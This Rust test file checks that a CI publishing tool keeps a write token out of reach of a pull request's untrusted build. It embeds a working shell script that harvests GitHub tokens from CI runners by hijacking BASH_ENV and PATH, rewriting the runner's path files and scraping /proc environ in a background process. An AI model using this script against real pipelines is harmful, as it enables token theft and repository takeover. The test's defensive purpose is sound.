//! Four ways in which a pull request's own build takes the token of whoever publishes: each finds it where one job does both, and none where
//! the recipe's two jobs do.
//!
//! A job is a machine: nothing that was left running in one is seen by the other. What was left on its disk is.

use std::fs;

use serde_json::{Value, json};
use stella::flow::suite::init::recipe::Recipe;

use crate::base::forge::{Forge, old};
use crate::harness::says;
use crate::publish::github::{Github, TOKEN};
use crate::real::act::{Act, ActRun};

/// What a job has that may only read.
const READING: &str = "ghs_1111_eyJhbGciOiJSUzI1NiJ9.eyJpc3MiOiJyZWFkLW9ubHkifQ.bm90aGluZy10by1iZS13cml0dGVu_-y";
const THEFTS: [&str; 4] = ["a start-up file", "a folder of programs", "a process", "the files of the runner"];

/// Run as a step of the job with all that the runner tells it, and as `subject.build` with what stella lets through.
const THIEF: &str = r#"#!/bin/sh
take='env | grep -q "=ghs_" && env | grep "=ghs_" >> "$LOOT/'
mkdir -p PLANTED/step PLANTED/build
# A program that looks around and then is the one that was asked for.
plant() { printf '#!/bin/sh\nLOOT=PLANTED/loot\n%s%s"\nexec %s "$@"\n' "$take" "$2" "$3" > "$1"; chmod 755 "$1"; }
mkdir -p PLANTED/loot
printf 'LOOT=PLANTED/loot\n%sa start-up file" || true\n' "$take" > PLANTED/start
plant PLANTED/step/bash "a folder of programs" /bin/bash
plant PLANTED/build/bash "the files of the runner" PLANTED/step/bash
if [ -n "${GITHUB_ENV:-}" ]; then echo "BASH_ENV=PLANTED/start" >> "$GITHUB_ENV"; fi
if [ -n "${GITHUB_PATH:-}" ]; then echo "PLANTED/step" >> "$GITHUB_PATH"
else
  # Nobody told where they are: they are looked up.
  find "$HOME" -name pathcmd.txt | while read -r file; do echo "PLANTED/build" >> "$file"; done
fi
rm -f PLANTED/watching
cat > PLANTED/watch <<'END'
: > PLANTED/watching
while :; do
  cat /proc/[0-9]*/environ 2>/dev/null | tr '\0' '\n' | grep '=ghs_' >> 'PLANTED/loot/a process'
  sleep 0.1
done
END
setsid sh PLANTED/watch </dev/null >/dev/null 2>&1 &
# What has not left the terminal when the step ends is ended with it.
until [ -e PLANTED/watching ]; do sleep 0.1; done
"#;

/// A pull request whose build steals, and the recipe with a step of its own.
fn scene() -> (Forge, String, Value) {
    let binary = env!("CARGO_BIN_EXE_stella");
    let forge = Forge::of(|dev| {
        dev.write(".stella.yaml", "version: 1\nsubject: {kind: feed, build: sh build.sh, path: feed}\n");
        dev.write("advisories/GHSA-old.json", old().to_string());
        dev.case("regressions/SCN-0001-minimist", "SCN-0001");
        dev.write("build.sh", "cp -r advisories feed\n");
    });
    let planted = forge.world.path("planted");
    let pull = forge.pull(|dev| {
        dev.write("thief.sh", THIEF.replace("PLANTED", planted.to_str().unwrap()));
        dev.write("build.sh", "cp -r advisories feed\nsh thief.sh\n");
    });
    let mut event: Value = crate::real::two_jobs::payload(&forge, &pull);
    event["pull_request"]["head"]["repo"] = json!({"full_name": "acme/app"});
    let recipe = Recipe::GithubComment.files(None)[0].1.clone();
    let recipe =
        recipe.replace("        id: stella\n", &format!("        id: stella\n        with: {{binary: {binary}}}\n"));
    let recipe = recipe.replace("with: {report-dir", &format!("with: {{binary: {binary}, report-dir"));
    let steps = "      - uses: stella-replay/stella@";
    (forge, recipe.replacen(steps, &format!("      - run: sh ./thief.sh\n{steps}"), 1), event)
}

/// What was taken, by the way in which it was.
fn loot(forge: &Forge, token: &str) -> Vec<&'static str> {
    let read = |way: &str| fs::read_to_string(forge.world.path("planted/loot").join(way)).unwrap_or_default();
    THEFTS.into_iter().filter(|way| read(way).contains(token)).collect()
}

fn run(forge: &Forge, act: &Act, workflow: &str, event: &Value, env: &[(&str, &str)], job: &str) -> ActRun {
    let commit = forge.git(&forge.world.path("bare.git"), &["rev-parse", "refs/pull/1/merge"]);
    let work = forge.check_out(&commit, None);
    forge.git(&work, &["update-ref", "refs/remotes/pull/1/merge", &commit]);
    let file = work.join(".github/workflows/stella.yml");
    fs::create_dir_all(file.parent().unwrap()).unwrap();
    fs::write(file, workflow).unwrap();
    act.run(&work, "pull_request", event, env, &["-j", job])
}

#[test]
fn a_build_takes_the_token_of_its_own_job_and_not_that_of_another() {
    let (forge, recipe, event) = scene();
    let Some(act) = Act::new(&forge.world.path("")) else { return };
    let (github, act) = (Github::start(), act.machines());
    github.open(1, event["pull_request"]["head"]["sha"].as_str().unwrap(), 1);
    let env = [("GITHUB_API_URL", github.url.as_str()), ("GITHUB_RUN_ID", "50"), ("GITHUB_RUN_ATTEMPT", "1")];

    // Two jobs, each with what GitHub gives it. The second is what it would be, had the first been another machine.
    let reading = act.with_token(READING);
    run(&forge, &reading, &recipe, &event, &env, "stella").ends(true, &["passed: 1 of 1 replay matches"]);
    let (head, comment) = recipe.split_once("  comment:\n").unwrap();
    let (head, _) = head.split_once("jobs:\n").unwrap();
    let comment = comment.replace("    needs: stella\n", "").replace("${{ needs.stella.result }}", "success");
    let comment = format!("{head}jobs:\n  comment:\n{comment}");
    let writing = reading.with_token(TOKEN);
    run(&forge, &writing, &comment, &event, &env, "comment").ends(true, &["nothing is said: it is green"]);
    assert_eq!(loot(&forge, TOKEN), [""; 0]);

    // One job, in the order of the same steps, with a publisher as many write one, and with ours. The first lasts until the process has
    // seen it, at most a minute: a loaded machine must not be the reason why nothing was taken.
    let seen = forge.world.path("planted/loot/a process");
    let publishes = format!(
        "timeout 60 sh -c 'until grep -q \"$PUBLISH_TOKEN\" \"{}\"; do sleep 0.1; done' || true",
        seen.display()
    );
    let one = recipe.split_once("  comment:\n").unwrap().0.to_owned()
        + &format!(
            "      - run: {publishes}\n        env: {{PUBLISH_TOKEN: '${{{{ github.token }}}}'}}\n        shell: bash\n"
        )
        + &recipe[recipe.find("      - uses: stella-replay/stella/publish@").unwrap()..]
            .replace("needs.stella.result", "steps.stella.outcome");
    let refused = run(&forge, &writing, &one, &event, &env, "stella");
    assert_eq!(loot(&forge, TOKEN), THEFTS, "{}", refused.log);
    // Ours had nothing to give: it refuses, and says what to do.
    assert!(!refused.ok);
    says(&refused.log, &["a build can take the token of a later step", "publish in a job of its own"]);
    assert_eq!(github.comments().len(), 0);
}
